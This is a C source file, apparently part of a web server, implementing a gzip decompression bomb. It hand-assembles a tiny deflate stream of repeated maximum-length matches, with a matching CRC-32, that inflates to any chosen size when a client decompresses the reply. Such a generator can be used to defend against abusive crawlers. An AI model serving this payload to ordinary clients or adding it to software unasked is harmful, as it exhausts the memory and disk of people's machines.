/* SPDX-License-Identifier: MIT */
/*
 * A deflate block with the fixed codes: the letter x, then matches of length 258 at distance 1. A
 * match is 13 bits (11000101 00000), so eight of them are 13 bytes; the block's 3 bits of head, the
 * letter's 8 and one match make 3 bytes, after which everything is aligned. The checksum of n equal
 * bytes is found by squaring the affine map that one byte is.
 */
#include "gzip.h"

#include <string.h>

enum { MATCH_BYTES = 258, PERIOD_MATCHES = 8, LETTER = 'x' };

struct affine {
	uint32_t column[32];
	uint32_t add;
};

static uint32_t
affine_apply(const struct affine *f, uint32_t x)
{
	uint32_t y = f->add;

	for (int i = 0; i < 32; i++) {
		if (x >> i & 1)
			y ^= f->column[i];
	}
	return y;
}

static uint32_t
crc_byte(uint32_t state, uint32_t byte)
{
	state ^= byte;
	for (int i = 0; i < 8; i++)
		state = state & 1 ? state >> 1 ^ 0xedb88320u : state >> 1;
	return state;
}

static uint32_t
crc_of_letters(uint64_t n)
{
	struct affine step, twice;
	uint32_t state = 0xffffffffu;

	step.add = crc_byte(0, LETTER);
	for (int i = 0; i < 32; i++)
		step.column[i] = crc_byte(1u << i, 0);
	for (; n; n >>= 1) {
		if (n & 1)
			state = affine_apply(&step, state);
		twice.add = affine_apply(&step, step.add);
		for (int i = 0; i < 32; i++)
			twice.column[i] = affine_apply(&step, step.column[i]) ^ step.add;
		step = twice;
	}
	return ~state;
}

struct bits {
	unsigned char bytes[32];
	size_t n;
};

/* `text` of 0 and 1, in the order in which they go out. */
static void
bits_add(struct bits *b, const char *text)
{
	for (; *text; text++, b->n++) {
		if (*text == '1')
			b->bytes[b->n / 8] |= (unsigned char)(1u << b->n % 8);
	}
}

static void
gzip_little_endian(struct reply *r, uint32_t n)
{
	unsigned char bytes[4] = {(unsigned char)n, (unsigned char)(n >> 8),
		(unsigned char)(n >> 16), (unsigned char)(n >> 24)};

	reply_body(r, bytes, sizeof(bytes));
}

void
gzip_bomb(struct reply *r, int64_t bytes)
{
	static const unsigned char head[] = {0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3};
	static const char match[] = "1100010100000";
	struct bits start = {0}, period = {0};
	int64_t each = MATCH_BYTES * PERIOD_MATCHES;
	int64_t times = (bytes + each - 1) / each;
	uint64_t total = (uint64_t)(1 + MATCH_BYTES + times * each);

	bits_add(&start, "110");      /* the last block, fixed codes */
	bits_add(&start, "10101000"); /* the letter x */
	bits_add(&start, match);
	for (int i = 0; i < PERIOD_MATCHES; i++)
		bits_add(&period, match);
	reply_body(r, head, sizeof(head));
	reply_body(r, start.bytes, start.n / 8);
	reply_repeat(r, period.bytes, period.n / 8, times);
	reply_body(r, "\0", 1); /* the end of the block */
	gzip_little_endian(r, crc_of_letters(total));
	gzip_little_endian(r, (uint32_t)total);
}
